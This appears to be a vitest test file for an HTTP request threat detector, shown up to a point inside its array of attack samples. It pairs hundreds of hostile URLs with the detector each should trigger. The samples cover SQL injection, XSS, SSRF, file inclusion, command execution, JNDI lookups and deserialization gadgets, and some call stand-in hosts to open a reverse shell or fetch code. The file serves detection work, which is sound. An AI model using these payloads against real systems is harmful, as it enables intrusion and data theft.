/**
 * The rule families added for HTTP protocol abuse, session fixation, server-side injections (Node.js, Ruby,
 * Perl, templates, SSRF to internal and metadata addresses) and more PHP, XSS and SQL syntax: each against
 * attacks written from the technique and against benign requests that look like them.
 */
import { describe, expect, it } from 'vitest';
import { httpThreatConfig } from './config.js';
import { charMask, maskOf } from './char-gate.js';
import { viewText } from './detector-table.js';
import { DETECTORS } from './detectors.js';
import { HttpThreat } from './http-threat.js';
import { normalise } from './normalise.js';

const scorer = new HttpThreat(httpThreatConfig.parse({}));
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0';

/** The detectors that fire at or above the alert threshold. */
function detectorsOf(url: string, referrer?: string, userAgent = BROWSER): string[] {
  const verdict = scorer.score(url, userAgent, referrer);
  return verdict === undefined || verdict.score < 0.5 ? [] : verdict.reasons.map((r) => r.detector);
}

const ATTACKS: ReadonlyArray<readonly [string, string]> = [
  ['protocol-crlf-header', '/page?lang=en%0d%0aSet-Cookie:%20admin=1'],
  ['protocol-crlf-header', '/a?x=1%0d%0a%0d%0aGET%20/admin%20HTTP/1.1'],
  ['protocol-crlf-header', '/r?to=/home%0d%0aLocation:%20https://evil.example/'],
  ['protocol-crlf-header', '/r?lang=en%0aX-Forwarded-For:%20127.0.0.1'],
  ['protocol-crlf-header', '/r?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK'],
  ['protocol-crlf-header', '/r?u=http://shop.example%0D%0Aprobe:%203.2%20version'], // any header name after a token
  // Payloads sent base64-encoded: node-serialize's exploit, PHP in a data URI, a script as a User-Agent's data URI.
  ['generic-node-serialized', `/profile?data=${encodeURIComponent(Buffer.from(`{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`).toString('base64'))}`],
  ['php-open-tag', '/view?page=data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTsgPz4%3D'],
  ['protocol-line-break', '/r?lang=en%0d%0aX:%20y=1'], // a header of any name, with the signs of code after it
  ['protocol-null-byte', '/download?file=report.pdf%00.php'],
  ['protocol-encoding-abuse', '/scripts/%c0%af../winnt/system32/cmd.exe'],
  ['protocol-encoding-abuse', '/a?x=%uff1cscript%uff1e'],
  ['protocol-encoding-abuse', '/a?x=%2527'],
  ['protocol-encoding-abuse', '/a?x=%zz'],
  ['protocol-raw-fragment', '/page#frag?x=1'],
  ['rce-glob-class', '/cgi-bin/run?f=/bin/c[a]t'],
  ['rce-glob-class', '/run?f=/[e]tc/passwd'],
  ['rce-glob-path', '/run?f=/???/[c]at'],
  ['protocol-restricted-extension', '/trace.axd'],
  ['protocol-restricted-extension', '/elmah.axd/detail?id=42'],
  ['session-id-param', '/login?sid=ABC123'],
  ['rce-direct-command', '/run?cmd=cat+/'],
  ['sqli-quote-operator-quote', "/item?id=x'-'1"],
  ['protocol-encoding-abuse', '/login?next=%2Fhome&x=%2527'], // the encoded path's level ends with its value
  ['protocol-encoding-abuse', '/a%252e%252e%252fetc'],
  ['lfi-restricted-file', '/shop/-/blob/main/.env'], // a named file counts under a code-hosting view too
  ['xss-script-tag', '/search?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)'], // fullwidth brackets, which best-fit mapping makes ASCII
  ['rce-command-chain', '/p?id=42|env'],
  ['rce-command-chain', '/p?id=42|id|'],
  ['rce-command-chain', '/p?a=x|/bin/find|b'],
  ['rce-command-chain', '/p?q=a%3B+find+%2F+-name+x'],
  ['rce-command-chain', '/p?q=x%3Btime+sleep+5'],
  ['rce-command-chain', '/p?pet=dog|cat%20/etc/passwd'],
  ['rce-value-command', '/p?pet=cat|'],
  ['rce-value-command', '/p?q=cat+%26%26+id'], // a command chained into another, spaced as prose would be
  ['rce-value-command', '/p?q=head+%7C+%2Fbin%2Fsh'],
  ['lfi-traversal', '/r?u=http://files.example/%252e%252e%252fetc'], // a URL's own encoded text is decoded and read too
  ['sqli-quote-operator-quote', "/p?q=x'+like+'a%25"],
  ['lfi-restricted-file', '/api/contents/work/.env'], // a named file counts under a notebook's view too
  ['lfi-restricted-file', '/app/.vite/deps/x.js'], // only node_modules holds a dev server's cache
  ['protocol-line-break', '/p?q=x%0A%3Cb%3E'],
  ['protocol-encoding-abuse', '/r?u=https://evil.example%252f.trusted.example'],
  ['sqli-quote-terminator', "/login?user=admin'+--+x"],
  ['sqli-quote-terminator', '/login?user=admin%22+--+'],
  ['protocol-response-splitting', '/redirect?to=/%0d%0aHTTP/1.1%20200%20OK'],
  ['protocol-mod-proxy', '/unix:/run/php.sock|http://internal/'],
  ['protocol-method-override', '/api/users/7?_method=DELETE'],
  ['protocol-ldap-injection', '/login?user=*)(uid=*))(|(uid=*'],
  ['protocol-ldap-injection', '/find?cn=admin)(|(password=*)'],
  ['protocol-restricted-extension', '/backup/site.sql'],
  ['protocol-restricted-extension', '/web.config.bak'],
  ['protocol-restricted-extension', '/index.php~'],
  ['session-cookie-set', '/p?x=<script>document.cookie="sessionid=1234;path=/"</script>'],
  ['session-cookie-set', '/p?x=<meta http-equiv="Set-Cookie" content="sid=1">'],
  ['session-id-param', '/login?session_id=attacker-chosen'],
  ['session-id-param', '/app;jsessionid=0123456789ABCDEF'],
  ['generic-data-scheme', '/index.php?page=data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=='],
  ['generic-ssrf-internal-host', '/fetch?url=localhost:6379/'],
  ['generic-ssrf-internal-host', '/fetch?url=//metadata.google.internal/computeMetadata/v1/'],
  ['generic-ssrf-internal-host', '/fetch?url=http://redis.svc.cluster.local:6379'],
  ['generic-cloud-metadata', '/fetch?u=http://169.254.169.254/latest/meta-data/iam/'],
  ['generic-ssrf-ip-url', '/proxy?target=gopher://10.0.0.5:25/_HELO'],
  ['generic-ssrf-ip-url', '/proxy?target=http://[fe80::1]/'],
  ['generic-node-call', "/api?x=require('child_process').execSync('id')"],
  ['generic-node-call', '/api?x=this.constructor.constructor(%22return process%22)()'],
  ['generic-node-call', '/api?x=process.mainModule.require(%22fs%22)'],
  ['generic-ruby', '/api?x=Kernel.exec(%22id%22)'],
  ['generic-python', "/api?x=subprocess.check_output(['id'])"],
  ['rce-direct-command', '/cgi-bin/admin.cgi?Command=sysCommand&Cmd=id'],
  ['protocol-xpath-injection', "/users?q=')]%20|%20//user/*[contains(*,'"],
  ['protocol-ldap-injection', '/ldap?user=admin)(%26)'],
  ['sqli-nosql-operator', '/api/users?q={"username":{"$gt":""},"password":{"$gt":""}}'],
  ['rce-spreadsheet-formula', "/export?name=@SUM(1+9)*cmd|'%20/C%20calc'!A0"],
  ['rce-spreadsheet-formula', '/export?name==HYPERLINK("http://evil.example/?x="%26A1,"click")'],
  ['protocol-restricted-extension', '/db.sqlite3'],
  ['lfi-restricted-file', '/phpinfo.php'],
  ['lfi-restricted-file', '/actuator/heapdump'],
  ['session-id-param', '/app/(S(lit3py55t21z5v55vlm25s55))/default.aspx'],
  ['php-render-callback', '/user/register?element_parents=account/mail/%23value&ajax_form=1&mail[%23post_render][]=exec'],
  ['generic-ssrf-query-authority', '/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example'],
  ['generic-node-injection', "/api?x=global['process'].exit()"],
  ['generic-node-injection', "/api?x=process['mainModule']['require']('fs')"],
  ['generic-node-injection', "/api?x=Reflect.construct(Function,['return%20process'])()"],
  ['generic-prototype-pollution', '/api?x=Object.prototype.polluted=1'],
  ['generic-prototype-pollution', '/api?x={"constructor":{"prototype":{"admin":true}}}'],
  ['generic-ssrf-internal-host', '/fetch?url=http://evil.example%23@localhost/'], // parsers disagree on the host
  ['generic-ssrf-ip-url', '/fetch?url=http://evil.example%23@10.0.0.7/'],
  ['sqli-union-select', '/item?id=1+union+distinctrow+select+1,2'],
  ['sqli-numeric-tautology', '/item?id=1%20oR%201%20LiKe%201'],
  ['generic-python', "/api?x=__import__('os').system('id')"],
  ['generic-python', '/api?x=os.popen(%22id%22).read()'],
  ['generic-python', '/api?x=pickle.loads(b%22cos%5Cnsystem%22)'],
  ['java-class-abuse', "/?x=%25{(%23_='multipart/form-data').(%23cmd='id')}"], // Struts' OGNL
  ['java-class-abuse', '/?redirect:${%23a=1}'],
  ['java-class-abuse', '/?x=(%23dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)'],
  ['java-class-abuse', '/?x=%23context[%22com.opensymphony.xwork2.ActionContext.container%22]'],
  ['sqli-union-select', '/item?id=-1%20UNION/**/SELECT/**/1,2,3'],
  ['sqli-union-select', "/item?id=1'/*!50000UNION*//*!50000SELECT*/1,2--"], // MySQL runs a versioned comment's content
  ['generic-ruby', '/api?x=%25x{id}'],
  ['generic-ruby', '/api?x=IO.popen(%22ls%22).read'],
  ['generic-perl', '/api?x=@{[system "id"]}'],
  ['generic-perl', "/api?x=use IO::Socket;"],
  ['generic-template-syntax', '/p?name={%25 for x in ().__class__.__base__.__subclasses__() %25}'],
  ['generic-template-syntax', '/p?name={{7*%277%27}}'],
  ['generic-template-syntax', '/p?name=<%23assign ex="freemarker.template.utility.Execute"?new()>'],
  ['rce-sqlite-system', "/q?x=1';.system id"],
  ['rce-history', '/q?x=;!-2'],
  ['rce-variable-evasion', '/q?x=;ca$u /etc$u/passwd'],
  ['rce-direct-command', '/q?cmd=whoami'],
  ['rce-direct-command', '/q?cmd=net user'],
  ['php-risky-name', '/q?cb=base64_decode'],
  ['php-directive', '/q?x=allow_url_fopen=1'],
  ['php-closing-tag', '/q?x=echo 1; ?>'],
  ['php-serialized', '/q?d=a:1:{i:0;O:8:"stdClass":0:{}}'],
  ['php-superglobal', '/q?x=$HTTP_RAW_POST_DATA'],
  ['xss-jsfuck', '/q?x=[][(![]%2B[])[%2B[]]%2B(![]%2B[])[!%2B[]%2B!%2B[]]]'],
  ['xss-utf7', '/q?x=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-'],
  ['xss-global-access', "/q?x=window['al'%2B'ert'](1)"],
  ['xss-no-parentheses', '/q?x=alert`1`'],
  ['xss-no-parentheses', '/q?x=onerror=alert;throw 1'],
  ['xss-deny-list', '/q?x=<div style="-moz-binding:url(x.xml%23xss)">'],
  ['xss-ascii-malformed', '/q?x=%BCscript%BEalert(1)%BC/script%BE'],
  ['sqli-quote-operator-quote', "/login?user=admin'='"],
  ['sqli-quote-operator-quote', "/login?user=admin'-'"],
  ['sqli-subquery', '/item?id=1 and exists(select * from users)'],
  ['sqli-case-when', '/item?id=(case when 1=1 then 1 else 2 end)'],
  ['sqli-server-objects', '/item?id=1;exec xp_dirtree %27\\\\evil\\a%27'],
  ['sqli-hex-string', '/item?id=1 and 1=unhex(0x41414141)'],
  ['lfi-restricted-file', '/.aws/credentials'],
  ['lfi-restricted-file', '/app/.n8n/config'],
  ['lfi-restricted-file', '/static/.DS_Store'],
  ['rce-redirect-to-tmp', '/ping?host=x;id>/tmp/out'],
  ['rce-redirect-to-tmp', '/run?code=>/dev/shm/x'],
  ['rce-shell-path', '/ping?h=d%3D%2Fdev%26%26(sh)0%3E%24d%2Ftcp%2F203.0.113.5%2F4444'], // /dev kept in a variable
  ['rce-shellshock', '/cgi-bin/status?()%20%7B'],
  ['sqli-numeric-tautology', '/item?id=9999+or+%2F*%2Bhint*%2F+true'], // the comment goes, `or true` stays
  ['sqli-union-select', '/item?id=1unionselectfrom'],
  ['sqli-function', '/item?id=select+if(1,sleep(5),0)'],
  ['sqli-keyword', '/item?id=1 group by name having count(id)>1'],
  ['sqli-keyword', "/item?id=execute immediate 'drop table x'"],
  ['generic-float-parse-dos', '/price?amount=2.2250738585072011e-308'],
  ['protocol-ldap-injection', '/people?cn=admin)(gidNumber%3C%3D100'],
  ['protocol-ldap-injection', '/people?cn=admin)%26(uid%3Droot'],
  ['protocol-ldap-injection', '/people?cn=admin)(|'],
  ['protocol-response-splitting', '/?a=GET%20http%3A%2F%2Fbackend.example%20HTTP%2F1.2'], // a request line smuggled in
  ['lfi-system-file', '/files?path=/etc/letsencrypt/live/shop.example/privkey.pem'],
  ['lfi-traversal', '/download?file=....//....//....//readflag'], // what is left once a filter strips ../ once
  ['lfi-absolute-path', '/page?file=/etc/exports'],
  ['lfi-absolute-path', '/page?file=file:///usr/local/apache2/conf/httpd.conf'],
  ['lfi-absolute-path', '/view//var/www/config.php'],
  ['lfi-absolute-path', '/page?f=/windows/system32/drivers/etc/networks'],
  ['sqli-case-when', '/item?id=(select (case when (1=2) then 1 else 0 end))'],
  ['rce-substitution', '/item?id=1|{ls,-la}'], // brace expansion as a word
  ['rce-substitution', '/item?cmd={wget,http://203.0.113.5/a.sh}'],
  ['rce-substitution', '/item?cmd=c{a,u}t+/etc/hosts'], // inside a word
  ['sqli-numeric-tautology', '/item?id=1 or not 2=3-- -'],
  ['sqli-numeric-tautology', '/item?id=1) where 7=8 or 9>8#'],
  ['sqli-function', '/item?id=iif(1=2,1,1/0)'],
  ['sqli-function', '/item?id=1+and+sleep(5+div+1)'], // a number and an operator, not a number and a word
  ['protocol-extension-path-parameter', '/hax?jsp=/app/rest/users;.jsp'], // TeamCity's authentication bypass
  ['protocol-extension-path-parameter', '/admin;.js'],
  ['protocol-encoded-query-in-path', '/client/index.php%3F.php/gsb/datetime.php'],
  ['java-groovy-execute', "/webtools/control/main/ProgramExport?groovyProgram=throw+new+Exception('id'.execute().text);"],
  ['java-groovy-execute', '/run?script=%5B%22sh%22%2C%22-c%22%2C%22id%22%5D.execute()'],
  ['generic-ssrf-internal-host', '/fetch?url=http://consul.service.consul:8500/v1/agent/self'],
  ['java-class-abuse', '/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'],
  ['xss-js-uri', '/r?u=javascript:alert'], // one word after the scheme is still a script
  ['scanner-oast-host', '/fetch?url=http://c5k2a9.oastify.com/'],
  ['scanner-oast-host', '/img?src=//c5k2a9.oast.site/a.png'],
  ['generic-ssrf-internal-host', '/fetch?url=http://app.localtest.me:8080/'], // public names that resolve to loopback
  ['generic-ssrf-internal-host', '/fetch?url=http://7f000001.rbndr.us/'],
  ['generic-ssrf-internal-host', '/fetch?url=http://customer1.app.localhost/'],
  ['lfi-windows-short-name', '/PROGRA~1/'],
  ['lfi-windows-short-name', '/web~1.con'],
  ['lfi-windows-short-name', '/a*~1*/.aspx'], // IIS's tilde enumeration, which the comment removal would hide
  ['lfi-traversal', '/index.php/%ef%bc%8e%ef%bc%8e%ef%bc%8fetc%ef%bc%8fpasswd'], // fullwidth dots and slashes
  ['xss-global-access', '/p?x=top[8680439..toString(30)](1)'], // alert, spelt as a number in base 30
  ['xss-no-parentheses', '/p?x=new Map([[1,alert]]).forEach(f=>f(1))'],
  ['xss-no-parentheses', '/p?x=for(let k in{alert})window[k](1)'],
  ['xss-no-parentheses', '/p?x=var a=alert;a(1)'],
  ['xss-js-sink', "/p?x=$.getScript('//evil.example/x.js')"],
  ['xss-js-sink', "/p?x=navigator.serviceWorker.register('//evil.example/sw.js')"],
  ['xss-handler-attribute', "/p?x=write('\\74img/src/o\\156error\\75alert\\501\\51\\76')"], // octal escapes
  // Calls, statements and quotes that still read as code once the prose lookalikes below are left alone.
  ['php-spaced-call', '/get?foo=exec%09%28blah%29'], // a tab before the bracket
  ['php-spaced-call', '/q?x=system%20%20(id)'],
  ['php-function-call', "/q?x=system ('id')"],
  ['php-dangerous-call', '/q?x=passthru (base64_decode($x))'],
  ['xss-js-sink', '/q?x=alert (1)'],
  ['xss-js-sink', '/q?x=<div style="width: expression (alert(1))">'],
  ['xss-no-parentheses', '/q?x={throw onerror=eval,1}'],
  ['sqli-stacked-query', "/item?id=1') select * from users--"],
  ['sqli-stacked-query', "/item?id=1' drop table users"],
  ['sqli-stacked-query', '/item?id=1; drop dead'], // after a number and a semicolon any statement word
  ['sqli-stacked-query', "/item?id=abc'; shutdown"],
  ['sqli-stacked-query', '/search?q=door; drop table users'],
  ['sqli-quote-terminator', "/item?id=1') having 1=1--"],
  ['sqli-tautology', "/item?id=1') or not 1=2"],
  ['generic-perl', '/q?x=system "id"'],
  ['rce-variable-evasion', '/q?x=ca$u /etc/passwd'], // a variable in a word before a path
  ['rce-variable-evasion', "/q?x=ti''me+who"],
  ['protocol-encoding-abuse', '/q?x=%2550ASSWORD'], // a second round of encoding, a percent number it is not  ['lfi-system-file', '/view?doc=C:/Windows/System32/drivers/etc/services'], // a drive path with forward slashes
  ['lfi-ntfs-stream', '/download?file=index.php::$DATA'],
  ['lfi-ntfs-stream', '/admin::$INDEX_ALLOCATION/users.asp'],
  ['generic-js-busy-wait', '/q?name=%22;d=new%20Date();do{cd=new%20Date();}while(cd-d<10000);//'],
  ['generic-js-busy-wait', "/q?name=';var t=new Date(;"], // only the clock after a closed quote
  ['protocol-line-break', '/foo%0Abar'], // in the path
  ['protocol-line-break', '/get?a=test%0Anext=more'], // before a parameter
  ['protocol-line-break', '/get?name%0D%0A=test'], // in a name
  // XSS scanners' fillers: a literal `+` (a form's space, encoded once more) around `=`, `/+/` between attributes.
  ['xss-event-handler', '/q?x=%3Cb/%2B/onpointerenter%2B%3D%2Bvoid(0)%3E'],
  ['xss-event-handler', '/q?x=%5C%22/%2B/autofocus/%2B/onfocus%3Dx/%2B/%5C%22'],
  ['xss-event-handler', '/q?x=%22+tabindex+onfocusin%3Dx'],
  // A sink called without its name before `(`: wrapped in brackets, handed to an array method, or renamed.
  ['xss-no-parentheses', '/q?x=%22%3B(alert)(document.domain)//'],
  ['xss-no-parentheses', '/q?x=%27%3B(prompt)%60%60//'],
  ['xss-no-parentheses', '/q?x=%22%3B%5B1%5D.map(alert)//'],
  ['xss-no-parentheses', '/q?x=%22%7D)%3Bf%3Dconfirm,f(1)//'],
  // A path scanner's probes: log files at the root or in a log folder near it, a private key at the root.
  ['lfi-restricted-file', '/payment.log'],
  ['lfi-restricted-file', '/log/production.log'],
  ['lfi-restricted-file', '/_logs/err.log'],
  ['lfi-restricted-file', '/id_rsa'],
  // SQL fuzzers' wordlists: comments as the spaces of a tautology, a subquery after a quote, hiding from SQL Server's trace.
  ['sqli-numeric-tautology', '/product.php?id=42/**/and/**/2=2'],
  ['sqli-numeric-tautology', '/product.php?id=/*x*/or/*y*/3=3'],
  ['sqli-tautology', "/search?q=x'+or+select+*"],
  ['sqli-tautology', "/search?q=x'+and+select+name,pass+from+users"],
  ['sqli-server-objects', "/login?user=admin'--sp_password"],
  // One for each detector that had no attack here, written from its technique (a test below asks for one each).
  ['sqli-comment-evasion', '/item?id=1/*!50000union*/+/*!50000select*/+1,2'],
  ['sqli-comment-evasion', '/item?id=1/**/and/**/ascii(substr(user(),1,1))>64'],
  ['sqli-quote-terminator', "/login?user=admin'/*"], // the rest of the statement commented out
  ['sqli-quote-terminator', '/item?id=1%22)/*'],
  ['sqli-order-by-probe', '/item?id=1+order+by+5--'],
  ['sqli-bare-comparison', '/item?id=7=7'],
  ['sqli-operator-after-quote', "/search?q=x'+or+name+rlike+'^a"],
  ['sqli-postgres-cast', '/item?id=1+and+1=(select+version())::int'],
  ['sqli-json-operator', "/item?id=1+and+json_extract(doc,'$.role')='admin'"],
  ['xss-js-uri', '/redirect?url=vbscript:msgbox(1)'],
  ['rfi-trailing-question', '/index.php?page=http://evil.example/shell.txt?'],
  ['rce-smtp-injection', '/contact?email=a@b.example%0d%0amail+from:+x@evil.example'],
  ['rce-mail-protocol', '/webmail?folder=INBOX%0d%0aa1+select+inbox'],
  ['rce-windows-switch', '/ping?host=127.0.0.1%26+certutil+-urlcache+-f+http://evil.example/a.exe'],
  ['rce-shell-syntax', '/p?cmd=alias+ls%3D%27rm+-rf+%2F%27'],
  ['rce-windows-for-if', '/p?c=for+/f+%25i+in+(%27dir%27)+do+echo+%25i'],
  ['php-open-tag', '/p?x=<?php+echo+1;?>'],
  ['php-variable-call', '/p?x=("system")("id")'],
  ['php-open-tag-any', '/p?x=[php]echo+1;[/php]'],
  ['rce-tilde-expansion', '/p?dir=~%2B/'],
  ['php-variable-function', '/p?x=$f(%27id%27)'],
  ['java-jndi-lookup', '/p?x=${jndi:ldap://evil.example/a}'],
  ['java-nested-lookup', '/p?x=${${lower:j}ndi:ldap://evil.example/a}'],
  ['java-serialized', '/p?data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'],
  ['java-serialized', '/p?data=%AC%ED%00%05sr%00%11java.util.HashMap'], // the bytes themselves
  ['lfi-system-file', '/download?file=/etc//passwd'], // a path a server folds before it opens it
  ['lfi-system-file', '/download?file=%2Fetc%2F.%2Fshadow'],
  ['lfi-traversal', '/p?f=..%c0%af..%c0%afetc%c0%afpasswd'], // IIS's overlong slash
  ['generic-prototype-brackets', '/api?q[constructor][prototype][admin]=1'],
  ['generic-node-dos', '/api?x=while(true){}'],
  ['rce-windows-if-compare', '/p?c=x%26if+%25a%25+equ+1+echo+y'],
  ['generic-template-math', '/p?name=${7*7}'],
  ['generic-template-math', '/p?name=*{7*7}'], // Thymeleaf's selection expression
  ['generic-xml-entity', '/p?x=<!DOCTYPE+x+[<!ENTITY+xxe+SYSTEM+"http://evil.example/x">]><x>%26xxe;</x>'],
  ['generic-xml-entity', '/p?x=<!ENTITY+%25+p+SYSTEM+"http://evil.example/p.dtd">%25p;'], // a parameter entity
  ['generic-xml-entity', '/p?xml=<!DOCTYPE+r+SYSTEM+"http://evil.example/r.dtd"><r/>'],
  // Framework session cookies planted as parameters, with no Referer.
  ['session-id-param', '/cart?JSESSIONIDSSO=0123456789ABCDEF'],
  ['session-id-param', '/portal?SMSESSION=AbCdEf123'],
  ['session-id-param', '/app?PLAY_SESSION=abc123'],
  ['session-id-param', '/app?koa.sess=eyJ1c2VyIjoxfQ'],
  ['session-id-param', '/node?SESS0123456789abcdef0123456789abcdef=xyz'],
  ['session-id-param', '/login?_shop_session=BAh7BkkiD3Nlc3Npb25faWQGOgZFVA'],
  ['session-id-param', '/catalog/index.php?osCsid=0123456789abcdef0123456789abcdef'],
  ['session-id-param', '/cgi-bin/app.pl?CGISESSID=0123456789abcdef'],
  ['session-id-param', '/forum/?bbsessionhash=0123456789abcdef'],
  ['session-id-param', '/names.nsf?DomAuthSessId=0123456789ABCDEF'],
  ['generic-node-dos-allocation', "/api?x='a'.repeat(100000000)"],
  ['php-concatenated-name-call', "/p?x=('sys'.'tem')('id')"],
  ['rfi-unc-path', '/p?file=%5C%5Cevil.example%5Cshare%5Cx.php'],
  ['xss-js-escaped-tag', '/p?x=\\u003cscript\\u003ealert(1)'],
  ['rce-sleep-probe', '/p?x=1;sleep+5'],
  ['php-non-alphanumeric', '/p?x=$_=[];$_=@"$_";'],
  // Less common forms of the families: SSRF to a Unix socket or over TFTP, Node.js's Function reached through
  // its prototype, YAML deserialization gadgets, Python's object graph, Smarty, PHP-only names and callbacks,
  // a signed serialized length, a URL written with backslashes, JSFuck with `+` read as a space, SQL tautologies.
  ['generic-ssrf', '/fetch?url=unix:/var/run/docker.sock:/containers/json'],
  ['generic-ssrf', '/fetch?url=tftp://evil.example:69/x'],
  ['generic-node-call', "/api?x=new(Function.prototype.constructor)('x')()"],
  ['generic-node-call', "/api?x=Function('x')('return%20process')"],
  ['generic-yaml-deserialization', '/api?x=---%20!ruby/object:Gem::Installer%0ai:%20x'],
  ['generic-yaml-deserialization', '/api?x=!!python/object/apply:os.system%20[%22id%22]'],
  ['generic-yaml-deserialization', '/api?x=!!javax.script.ScriptEngineManager%20[!!java.net.URLClassLoader%20[[]]]'],
  ['generic-python', '/api?x=().__class__.__bases__[0].__subclasses__()'],
  ['generic-python', "/api?x=__builtins__.__dict__['eval']('1%2B1')"],
  ['generic-python', "/api?x=compile('import%20os','','exec')"],
  ['generic-template-injection', '/page?name={$smarty.version}'],
  ['php-risky-name', '/index.php?f=phpinfo'],
  ['sqli-numeric-tautology', '/item?id=-1%20or%202--'],
  ['php-risky-name', '/index.php?x=escapeshellarg&y=proc_nice'],
  ['php-risky-name', '/index.php?callback=system&arg=id'],
  ['php-serialized', '/index.php?data=O:%2B8:"stdClass":0:{}'],
  ['rfi-unc-path', '/index.php?src=http:\\\\evil.example\\x.php'],
  ['xss-jsfuck', '/search?q=[][(![]+[])[+[]]]'],
  ['xss-jsfuck', '/search?q=[!%2B[]%2B!%2B[]]'],
  ['sqli-numeric-tautology', '/item?id=1%20or%201%23'],
  ['sqli-numeric-tautology', '/item?id=1%20and%200x61646d696e=0x61646d696e'],
  ['sqli-keyword', '/item?id=1%20PROCEDURE%20ANALYSE()'],
  // Loopback and metadata without a scheme, as the SSRF bypass lists write them; PHP's other predefined
  // variables, and a variable function behind a comment or in brackets.
  ['generic-ssrf-internal-host', '/fetch?url=ip6-localhost/'],
  ['generic-ssrf-internal-host', '/fetch?url=host.docker.internal:2375/containers/json'],
  ['generic-cloud-metadata', '/fetch?url=169.254.169.254'],
  ['generic-ssrf-address-forms', '/fetch?url=017700000001/'],
  ['php-superglobal', '/p?x=$http_response_header'],
  ['php-variable-function', '/p?x=$a%23x%0a(1)'],
  ['php-variable-function', '/p?x=($a)(%27id%27)'],
  // Old Internet Explorer's script vectors, JSON literals with nested brackets and PostgreSQL's jsonb functions,
  // and more of the parameter names that PHP applications include files from.
  ['xss-ie-vector', '/s?q=<import%20implementation="x.htc">'],
  ['xss-ie-vector', '/s?q=<v:vmlframe%20src="x.vml">'],
  ['xss-ie-vector', '/s?q=x%22%20style=%22behavior:url(%23default%23time2)'],
  ['xss-ie-vector', '/s?q=x%22%20datasrc=%22%23x'],
  ['sqli-json-operator', "/a?id=1%20and%20'{\"a\":2,\"c\":[4,{\"f\":7}]}'%20->%20'$.c[1].f'%20=%207"],
  ['sqli-json-operator', "/a?id=1%20and%20jsonb_typeof('[]')='array'"],
  ['rfi-include-param', '/a?phpbb_root_path=http://evil.example/'],
  ['rfi-include-param', '/a?GLOBALS[x]=http://evil.example/'],
  ['rfi-include-param', '/a?theme_path=https://evil.example/x.txt'],
  // Node.js denial of service: a loop with an empty body or a constant condition, large allocations, abort().
  ['generic-node-dos', '/?x=while(x=1){}'],
  ['generic-node-dos', '/?x=while(typeof%20x){}'],
  ['generic-node-dos', '/?x=for(;1;){}'],
  ['generic-node-dos-allocation', "/?x='a'.repeat(2**30)"],
  ['generic-node-dos-allocation', '/?x=Buffer.alloc(1e10)'],
  ['generic-node-injection', '/?x=process.abort()'],
  // A loopback name with the root's trailing dot, and as a UNC host.
  ['generic-ssrf-internal-host', '/fetch?url=localhost./admin'],
  ['generic-ssrf-internal-host', '/fetch?url=127.0.0.1.:80/'],
  ['generic-ssrf-internal-host', '/fetch?x=%5C%5Clocalhost%5Cshare'],
  // Attributes injected after a closing quote: a script's source, a plugin's script access, a CSS fetch.
  ['xss-attribute-injection', '/s?q=%22%20src=%22//evil.example/x.js'],
  ['xss-attribute-injection', '/s?q=x%22%20allowscriptaccess=%22always'],
  ['xss-attribute-injection', '/s?q=x%27%20style=%27background:url(//evil.example/c)'],
  ['xss-attribute-injection', '/s?q=<embed%20allowscriptaccess=always%20src=x.swf>'],
  // The techniques named by the titles of the CRS rules whose eval tests were still missed most (batch 10 of
  // bench/threat-attacks-by-technique.txt): PHP settings and variables, Node.js file and process calls, a
  // command line in a parameter named for one, JSON functions of SQL Server and MySQL.
  ['php-directive', '/index.php?x=session.save_path=/tmp'],
  ['php-directive', '/index.php?x=cgi.force_redirect=0'],
  ['php-directive', '/index.php?x=zend_extension=/tmp/x.so'],
  ['php-directive', '/index.php?x=phar.readonly=0'],
  ['php-superglobal', '/index.php?x=$HTTP_POST_FILES'],
  ['php-superglobal', '/index.php?x=${_GET}[a]'],
  ['php-superglobal', "/index.php?x=${'_SERVER'}"],
  ['generic-node-call', "/api?x=fs.readdirSync('.')"],
  ['generic-node-call', "/api?x=fs.unlink('/app/index.js',()=>{})"],
  ['generic-node-injection', '/api?x=process.setuid(0)'],
  ['generic-node-injection', "/api?x=process.stdout.write('x')"],
  ['generic-node-injection', '/api?x=process.constructor'],
  ['generic-node-dos', '/api?x=for(var i=0;;i++){}'],
  ['rce-direct-command', '/run?exec=wget%20http://evil.example/s.sh'],
  ['rce-direct-command', '/run?cmd=chmod%20777%20/tmp/x'],
  ['rce-command-chain', '/ping?host=127.0.0.1;printenv'],
  ['sqli-json-operator', "/item?id=1%20AND%20ISJSON('{}')=1"],
  ['sqli-json-operator', "/item?id=1%20or%20json_depth('{}')=1"],
  ['rce-shell-path', '/run?x=bin/bash'],
  ['rce-shell-path', '/run?x=id%202>/dev/null'],
  ['rce-shell-path', '/run?x=/dev/fd/0'],
  ['xss-handler-attribute', '/s?q=<x%20xmlns:ev=%22http://www.w3.org/2001/xml-events%22%20ev:event=%22load%22%20ev:handler=%22data:,alert(1)%22>'],
  ['generic-node-dos', '/api?x=while(!![])%7Bx%7D'],
  ['generic-node-dos', '/api?x=while(i<Infinity)%20i%2B%2B'],
  ['rfi-include-param', '/index.php?pagina=http://evil.example/shell.txt'],
  ['rfi-include-param', '/index.php?path_to_root=http://evil.example/shell.txt'],
  // Batch 11: edge-side includes, objects that JSON and XML binders build from a class the document names.
  ['generic-esi-include', '/search?q=<esi:include%20src="http://evil.example/"/>'],
  ['generic-esi-include', "/search?q=<!--esi%20$add_header('Location','http://evil.example')%20-->"],
  ['java-deserialization-gadget', '/api?x={"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}'],
  ['java-deserialization-gadget', '/api?x=["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://evil.example/a"}]'],
  ['java-deserialization-gadget', '/api?x=<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags></jdk.nashorn.internal.objects.NativeString></entry></map>'],
